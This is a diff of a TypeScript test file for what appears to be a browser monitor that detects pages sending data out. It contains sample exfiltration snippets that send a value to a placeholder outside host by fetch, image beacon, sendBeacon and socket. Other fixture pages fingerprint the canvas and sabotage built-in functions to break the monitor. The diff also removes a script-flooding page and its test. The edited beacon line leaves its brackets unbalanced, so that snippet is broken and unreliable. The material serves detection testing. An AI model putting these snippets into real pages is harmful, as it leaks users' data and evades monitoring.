@@ -34,7 +34,7 @@ const KEYS: Record<string, string> = {
   url: `fetch('{other}/neem?v=' + encodeURIComponent(value))`,
   base64: `new Image().src = '{other}/neem?d=' + encodeURIComponent(btoa(JSON.stringify({ v: value })))`,
   beacon: `crypto.subtle.digest('SHA-256', new TextEncoder().encode(value.trim().toLowerCase())).then((sum) =>
-    navigator.sendBeacon('{other}/neem', new Blob([[...new Uint8Array(sum)].map((one) => one.toString(16).padStart(2, '0')).join('')]))`,
+    navigator.sendBeacon('{other}/neem', new Blob([[...new Uint8Array(sum)].map((one) => one.toString(16).padStart(2, '0')).join('')))`,
   socket: `socket.send(value)`,
   own: `fetch('/neem', { method: 'POST', body: value })`,
 }
@@ -100,11 +100,6 @@ const PAGES: Record<string, string> = {
     said.push(Object.keys(window).filter((name) => name.startsWith('_')).join(), document.createElement('canvas').toDataURL().slice(0, 22))
     try { HTMLCanvasElement.prototype.toDataURL.call({}) } catch (error) { said.push(error.constructor.name) }
     fetch('/hoor', { method: 'POST', body: JSON.stringify(said) })</script>`,
-  // Calls without end, from addresses without end.
-  '/eindeloos': `<script>addEventListener('load', () => { for (let at = 0; at < 300; at++) {
-    const part = document.createElement('script'); part.textContent = 'for (let at = 0; at < 300; at++) {' +
-      'document.addEventListener("keydown", () => {}); screen.width }\\n//# sourceURL=http://elders.example/' + at
-    document.body.append(part) } })</script>`,
   // Whoever breaks everything first sees no more of us, and is still heard.
   '/stuk': `<script>Error.prepareStackTrace = () => { throw 1 }; Error.stackTraceLimit = 0; Map.prototype.get = () => 9e9
     WeakMap.prototype.get = Set.prototype.has = Reflect.apply = String.prototype.slice = () => { throw 1 }
@@ -255,10 +250,4 @@ test('three times the same', { timeout: 60_000 }, async () => {
   const told = []
   for (let time = 0; time < 3; time++) told.push(JSON.stringify(await watched('/canvas', '/typ-post')))
   expect(new Set(told).size).toBe(1)
-})
-
-test('calls without end are told a bounded number of times', async () => {
-  const { scripts, lacks } = await watched('/eindeloos')
-  // It says that they are of somebody else, from whom nothing came.
-  expect([scripts, lacks]).toEqual([[], {}])
 })
